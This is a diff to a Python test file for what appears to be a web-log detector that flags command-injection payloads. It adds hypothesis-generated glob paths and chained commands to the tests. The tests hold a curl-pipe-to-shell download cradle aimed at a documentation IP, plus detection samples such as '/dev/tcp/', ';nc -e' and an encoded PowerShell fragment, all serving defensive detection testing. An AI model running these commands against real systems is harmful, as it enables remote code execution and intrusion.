@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from kanaria.core import schema
 from kanaria.core.prefilter import Pattern, Prefilter
 from kanaria.mining.payload import COLUMNS, enrich
-from kanaria.mining.payload_words import HINTS, WORDS, hidden
+from kanaria.mining.payload_words import HINTS, WORDS, candidates, hidden
 
 CRADLE = "curl -s http://198.51.100.9/x.sh|sh"
 ATTACK = "/cgi-bin/a?c=" + quote(CRADLE)
@@ -151,11 +151,21 @@ def test_a_word_is_found_in_base64_at_any_alignment(before: bytes, word: bytes) 
 
 
 def test_every_expression_finds_something_of_its_own() -> None:
-    examples = ("pаss", "a\u200bb", "%252e", "%%", "${", "r''l", "w'g", "'+'", "chr(", "PUT /a.jsp", "| sh ", "/dev/tcp/", "/b?n/", "c[u]r",
-                "perl -e", ";nc -e", "nohup x", "from program", " -enc SQBFAFgAIAAoAE4A")  # fmt: skip
+    examples = ("pаss", "a\u200bb", "%252e", "%%", "${", "r''l", "w'g", "'+'", "chr(", "PUT /a.jsp", "| sh ", "/dev/tcp/", "??", "/b?n/", "/b*n/", "/us%2a/",
+                "bin/c*", "c[u]r", "perl -e", ";nc -e", "nohup x", "from program", " -enc SQBFAFgAIAAoAE4A")  # fmt: skip
     for expression, text in zip(HINTS, examples, strict=True):
         assert Prefilter([Pattern(expression)]).scan(text.encode()), (expression, text)
     assert len(set(WORDS)) == len(WORDS)
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.from_regex(r"(/|%2f)[bu][a-z]{0,2}(\*|%2a)[a-z]{0,2}(/|%2f)", fullmatch=True)
+    | st.from_regex(r"([;|`]|%3b|%7c|%60|%26%26|&&)(\+|%20){0,2}(id|rm|ls|dd|export)([ +/;|&]|%20)", fullmatch=True)
+)
+def test_folders_left_to_the_shell_and_separated_commands_are_looked_at(text: str) -> None:
+    raw = pa.array([f'203.0.113.7 - - "GET /a?x={text}y HTTP/1.1" 200 5'.encode()])
+    assert candidates().rows(raw)[0].tolist()
 
 
 def test_the_three_spellings_of_a_word_in_base64() -> None:
